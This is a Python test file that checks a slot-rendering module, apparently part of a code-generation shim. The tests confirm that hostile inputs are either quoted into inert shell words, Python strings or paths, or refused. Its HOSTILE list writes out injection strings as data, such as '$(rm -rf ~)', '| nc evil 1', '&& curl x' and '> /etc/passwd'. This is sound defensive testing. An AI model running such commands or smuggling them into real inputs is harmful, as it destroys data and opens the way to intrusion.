"""Slot classes and context quoting with hostile values: inserted exactly or not at all."""

from __future__ import annotations

import ast
import json
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skvm_shim.jit.shell import tokenize_shell
from skvm_shim.jit.slots import accept, allowed, classify, fits, render

HOSTILE = [
    "; rm -rf ~",
    "$(rm -rf ~)",
    "`rm -rf ~`",
    "a\nrm -rf ~",
    "it's",
    'say "hi"',
    "back\\slash",
    "données €",
    "${IFS}x",
    "| nc evil 1",
    "&& curl x",
    "> /etc/passwd",
    "-rf",
    "~/.ssh",
    "*",
    "\t",
    "EOF",
]
NO_NUL = st.text(
    st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), min_size=1
)


@pytest.mark.parametrize("value", HOSTILE)
def test_shell_word_holds_any_value_as_one_inert_word(value: str) -> None:
    rendered = render("shell_word", value)
    command = f"cat {rendered} --flag"
    assert shlex.split(command) == ["cat", value, "--flag"]
    tokens = tokenize_shell(command)
    assert [t.kind for t in tokens] == ["word", "word", "word"]
    assert tokens[1].value == value


@given(NO_NUL)
def test_shell_word_round_trips_every_value(value: str) -> None:
    tokens = tokenize_shell(f"echo {render('shell_word', value)}")
    assert [t.value for t in tokens] == ["echo", value]


def test_shell_word_with_constant_text_around_the_slot_is_quoted_whole() -> None:
    rendered = render("shell_word", "x; id", prefix="data/", suffix=".csv")
    assert shlex.split(rendered) == ["data/x; id.csv"]


@pytest.mark.parametrize("value", ["it's", "a\nb", "back\\slash", "'; import os #"])
def test_python_string_refuses_values_that_need_escaping(value: str) -> None:
    with pytest.raises(ValueError):
        render("py_string", value, quote="'")


@given(NO_NUL)
def test_python_string_is_exact_or_refused(value: str) -> None:
    try:
        rendered = render("py_string", value, quote='"')
    except ValueError:
        return
    assert ast.literal_eval(rendered) == value
    assert len(list(__import__("tokenize").generate_tokens(iter([rendered]).__next__))) >= 1


@pytest.mark.parametrize("value", ["os.system", "import", "a b", "1x", "__import__('os')"])
def test_python_names_take_identifiers_only(value: str) -> None:
    with pytest.raises(ValueError):
        render("py_name", value)


@pytest.mark.parametrize("value", [v for v in HOSTILE if not fits(v, "path")])
def test_text_of_unknown_use_refuses_anything_but_paths(value: str) -> None:
    """(Path-like values such as ``-rf`` pass here; the extractor's leading-character rule in
    ``accept`` stops them before rendering unless a learned value started the same way.)"""
    with pytest.raises(ValueError):
        render("text", value)


def test_text_of_unknown_use_takes_paths() -> None:
    assert render("text", "data/q1_sales.csv") == "data/q1_sales.csv"


@given(NO_NUL)
def test_json_string_contexts_round_trip(value: str) -> None:
    for role in ("whole", "argv", "prose"):
        rendered = render(role, value)  # type: ignore[arg-type]
        assert json.loads(json.dumps({"path": rendered}))["path"] == value


def test_nul_is_refused_everywhere() -> None:
    for role in ("shell_word", "whole", "argv", "prose", "py_string"):
        with pytest.raises(ValueError):
            render(role, "a\x00b", quote="'")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("values", "cls"),
    [
        (["3", "42", "7.5"], "number"),
        (["sales", "q1_sales"], "identifier"),
        (["data1.csv", "/tmp/x", "a-b"], "path"),
        (["q1 sales.csv", "it's"], "string"),
        (["a\nb"], "free"),
        ([""], None),
    ],
)
def test_classify_picks_the_most_specific_class(values: list[str], cls: str | None) -> None:
    assert classify(values) == cls


def test_path_class_refuses_shell_metacharacters_and_trailing_punctuation() -> None:
    for value in ["a b", "a;b", "a|b", "$x", "`x`", "a'b", 'a"b', "a*", "x.", "(x)"]:
        assert not fits(value, "path"), value


def test_leading_dash_or_tilde_needs_a_learned_example() -> None:
    assert not accept("-rf", "path", leads="")
    assert accept("-rf", "path", leads="-")
    assert not accept("~/.ssh", "path", leads="")
    assert accept("data.csv", "path", leads="")
    assert not accept("data 1.csv", "path", leads="")
    assert not accept("a\nb", "string", leads="")


def test_class_limits_per_place() -> None:
    assert allowed("shell_word", "free", subword=False)
    assert not allowed("shell_word", "string", subword=True)
    assert allowed("shell_word", "path", subword=True)
    assert not allowed("text", "string", subword=False)
    assert not allowed("heredoc", "string", subword=False)
    assert allowed("whole", "string", subword=False)
    assert not allowed("whole", "free", subword=False)
    assert not allowed("py_name", "path", subword=False)
    assert allowed("prose", "free", subword=True)
